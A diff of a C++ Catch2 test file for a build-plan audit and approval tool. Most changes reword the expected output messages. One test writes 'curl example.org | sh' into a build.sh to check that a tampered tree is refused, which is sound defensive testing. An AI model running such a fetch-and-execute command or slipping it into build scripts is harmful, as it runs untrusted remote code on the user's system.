@@ -147,7 +147,7 @@ TEST_CASE("audit --unapproved: shows what is new since") {
   const Approving toy;
   toy.approve("alice");
   const CliResult none = toy.audit("allowed", {"--unapproved"});
-  CHECK_THAT(none.out, Catch::Contains("All of it is approved. build.sh and check.sh are no part of an approval;") &&
+  CHECK_THAT(none.out, Catch::Contains("Everything is approved. Approvals do not cover build.sh and check.sh;") &&
                            !Catch::Contains("Patch 1 of"));
   const CliResult variables = toy.audit("allowed", {"--unapproved", "--set", "USE_NEW=1", "--json"});
   CHECK_THAT(variables.out, Catch::Contains("\"USE_NEW\"") && Catch::Contains("\"kind\": \"variables\"") &&
@@ -202,7 +202,8 @@ TEST_CASE("audit --unapproved: says where no approval was read") {
 
 TEST_CASE("audit: says of what the plan's digest is") {
   CHECK_THAT(Approving().audit("allowed").out,
-             Catch::Contains("digest of the sources of the plan: pins, patches and added files, and neither"));
+             Catch::Contains("digest of the sources of the plan: pins, patches and added files, but not variables or "
+                             "the image"));
 }
 
 TEST_CASE("audit approve: an added file is approved where it lies") {
@@ -227,7 +228,7 @@ TEST_CASE("audit approve: a tree that is not what was prepared is not approved")
   edit(toy.path("edited") + "/torchpatch/build.sh", "set -eu", "set -eu; curl example.org | sh");
   const CliResult refused = approve("edited");
   CHECK(refused.exit_code == 1);
-  CHECK_THAT(refused.out, Catch::Contains("nothing is approved"));
+  CHECK_THAT(refused.out, Catch::Contains("nothing was approved"));
   CHECK_FALSE(is_directory(toy.path("mine")));
   CHECK(approve("out").exit_code == 0);
   const CliResult seen = toy.run({"audit", toy.path("out"), "--catalog", toy.path("mine"), "--signer",
